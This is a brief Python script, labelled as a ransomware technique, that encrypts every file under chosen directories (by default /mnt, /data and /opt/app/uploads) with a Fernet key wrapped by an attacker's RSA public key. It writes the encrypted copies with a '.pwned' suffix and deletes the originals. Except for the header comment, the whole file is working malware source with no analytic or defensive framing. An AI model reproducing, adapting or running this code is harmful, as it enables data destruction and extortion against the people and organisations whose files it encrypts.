# technique: threaded ransomware: Fernet key wrapped with RSA, every file of the given roots encrypted and removed
import os, sys, threading, queue
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

ATTACKER_PUB = b"-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAexample\n-----END PUBLIC KEY-----\n"
key = Fernet.generate_key()
box = Fernet(key)
wrapped = serialization.load_pem_public_key(ATTACKER_PUB).encrypt(
    key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
del key
jobs = queue.Queue()

def worker():
    while True:
        path = jobs.get()
        try:
            with open(path, "rb") as fh:
                token = box.encrypt(fh.read())
            with open(path + ".pwned", "wb") as fh:
                fh.write(token)
            os.remove(path)
        except OSError:
            pass
        jobs.task_done()

for _ in range(8):
    threading.Thread(target=worker, daemon=True).start()
for top in sys.argv[1:] or ["/mnt", "/data", "/opt/app/uploads"]:
    for d, _, files in os.walk(top):
        for f in files:
            jobs.put(os.path.join(d, f))
jobs.join()
with open("/tmp/key.bin", "wb") as fh:
    fh.write(wrapped)
